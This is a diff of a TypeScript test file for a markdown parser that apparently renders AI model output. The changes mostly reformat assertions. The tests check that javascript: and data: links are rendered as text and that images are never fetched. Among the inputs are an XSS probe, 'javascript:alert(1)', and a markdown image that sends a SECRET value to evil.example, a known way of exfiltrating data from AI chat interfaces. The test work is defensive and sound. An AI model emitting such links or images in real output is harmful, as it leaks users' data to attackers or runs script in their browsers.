@@ -11,21 +11,33 @@ test('HTML in model text stays text', () => {
 test('javascript: and data: links are text, http(s) links are links', () => {
   assert.ok(!JSON.stringify(parseInline('[x](javascript:alert(1))')).includes('"link"'));
   assert.ok(!JSON.stringify(parseInline('[x](data:text/html,hi)')).includes('"link"'));
-  assert.deepEqual(parseInline('see [docs](https://example.com/a)'), [{ t: 'text', text: 'see ' }, { t: 'link', href: 'https://example.com/a', children: [{ t: 'text', text: 'docs' }] }]);
+  assert.deepEqual(parseInline('see [docs](https://example.com/a)'), [
+    { t: 'text', text: 'see ' },
+    { t: 'link', href: 'https://example.com/a', children: [{ t: 'text', text: 'docs' }] },
+  ]);
   assert.equal(isSafeHref('JAVASCRIPT:alert(1)'), false);
   assert.equal(isSafeHref('http://x'), true);
 });
 
 test('images are never fetched: shown as text', () => {
   const nodes = parseInline('![](https://evil.example/?d=SECRET)');
-  assert.deepEqual(nodes.map((n) => n.t), ['text']);
+  assert.deepEqual(
+    nodes.map((n) => n.t),
+    ['text'],
+  );
 });
 
 test('code fences, lists, headings, emphasis', () => {
   const b = parseBlocks('# Title\n\n- one\n- **two**\n\n```js\nconst a = `<b>`;\n```\nplain *em* `code`');
-  assert.deepEqual(b.map((x) => x.t), ['h', 'list', 'code', 'p']);
+  assert.deepEqual(
+    b.map((x) => x.t),
+    ['h', 'list', 'code', 'p'],
+  );
   assert.equal((b[2] as { text: string }).text, 'const a = `<b>`;');
-  assert.deepEqual((b[3] as { inline: { t: string }[] }).inline.map((n) => n.t), ['text', 'em', 'text', 'code']);
+  assert.deepEqual(
+    (b[3] as { inline: { t: string }[] }).inline.map((n) => n.t),
+    ['text', 'em', 'text', 'code'],
+  );
 });
 
 test('code blocks are highlighted as a token tree, never as HTML; unknown languages stay plain', async () => {
